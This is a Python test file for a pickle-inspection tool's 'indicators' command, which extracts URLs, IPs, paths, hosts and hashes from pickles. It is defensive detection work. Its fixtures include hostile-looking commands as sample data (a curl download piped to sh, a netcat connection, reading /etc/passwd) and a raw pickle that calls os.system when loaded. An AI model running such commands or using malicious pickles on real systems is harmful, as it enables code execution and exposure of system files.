# SPDX-License-Identifier: MIT
"""indicators: what of a pickle can be looked for elsewhere, and nothing that only resembles it."""

import base64
import hashlib
import os
import pickle
import tempfile

import tap

FOUND = [
    ("a URL", "see https://evil.example/a/b?c=d#e.", [("url", "https://evil.example/a/b?c=d#e")]),
    ("two URLs", "http://a.example ftp://b.example/x", [("url", "http://a.example"),
                                                        ("url", "ftp://b.example/x")]),
    ("a URL in quotes", "curl 'http://a.example/x'|sh", [("url", "http://a.example/x")]),
    ("an e-mail address", "to ann.b+c@mail.example.org.", [("mail", "ann.b+c@mail.example.org")]),
    ("an IP address", "nc 10.0.0.1 4444", [("address", "10.0.0.1")]),
    ("a path", "cat /etc/passwd;", [("path", "/etc/passwd")]),
    ("a path of Windows", r"run C:\Users\x.exe", [("path", r"C:\\Users\\x.exe")]),
    ("base64", base64.b64encode(hashlib.sha512(b"x").digest()).decode(),
     [("base64", base64.b64encode(hashlib.sha512(b"x").digest()).decode()),
      ("sha256", "64 bytes decoded " + hashlib.sha256(hashlib.sha512(b"x").digest()).hexdigest())]),
    ("a host name", "connect to c2.evil-host.com.", [("host", "c2.evil-host.com")]),
    ("a host name alone", "abcdefgh.onion", [("host", "abcdefgh.onion")]),
    ("names of programs", "os.path.join pandas.io self.name app.com() x_y.com a.py .com", []),
    ("bytes that are long", b"\0" * 32,
     [("sha256", "32 bytes " + hashlib.sha256(b"\0" * 32).hexdigest())]),
    ("bytes that are short", b"\0" * 31, []),
    ("in bytes", b"\xff http://a.example \xff", [("url", "http://a.example")]),
    ("no URL", "a://", []),
    ("no IP address", "1.2.3 1.2.3.256 1.2.3.4.5 x1.2.3.4", []),
    ("no path", "a/b 1/2 and/or /", []),
    ("no e-mail address", "@ a@b @example.org", []),
    ("no base64", "A" * 80 + " " + "abcdefgh" * 10, []),
    ("a drive that is none", "xC:\\a", []),
    ("what is not shown raw", "http://a.example/\u202ex", [("url", "http://a.example/")]),
]


def indicators(data):
    with open("x.pkl", "wb") as file:
        file.write(data)
    out = tap.run("indicators", "x.pkl")[1].decode()
    return [line.split(None, 3) for line in out.splitlines()]


def main():
    for name, value, wanted in FOUND:
        data = pickle.dumps(value, 4)
        digest, *lines = indicators(data)
        tap.equal([(line[0], line[3]) for line in lines],
                  [(kind, text.replace("\\\\", "\\")) for kind, text in wanted], name)
        tap.equal((digest[0], digest[3].endswith(hashlib.sha256(data).hexdigest())),
                  ("sha256", True), "%s: the digest of the pickle" % name)
    for name, data in [("a line of bytes", b"S'\\x68ttp:\\57\\57a.example/x'\n."),
                       ("a line of text", b"Vhttp\\u003a//a.example/x\n.")]:
        tap.equal([(line[0], line[3]) for line in indicators(data)[1:]],
                  [("url", "http://a.example/x")], "%s, with its escapes undone" % name)
    lines = indicators(b"cos\nsystem\n(S'id'\ntR.")
    tap.equal(lines[1], ["command", "op", "4", "os.system('id')"], "a command")
    lines = indicators(pickle.dumps(["http://a.example/%d" % k for k in range(3000)], 4))
    tap.equal((len(lines), lines[-1][:3]), (2002, ["and", "1000", "more"]), "many are counted")
    # However the text is made, the time is that of reading it.
    for name, text in [("colons", ":" * 300000), ("at signs", "a@" * 200000), ("digits", "1." * 200000),
                       ("slashes", "/" * 300000), ("letters", "a" * 500000)]:
        tap.ok(len(indicators(pickle.dumps(text, 4))) < 2100, "a long text of %s" % name)
    tap.finish()


with tempfile.TemporaryDirectory() as folder:
    os.chdir(folder)
    try:
        main()
    finally:
        os.chdir("/")
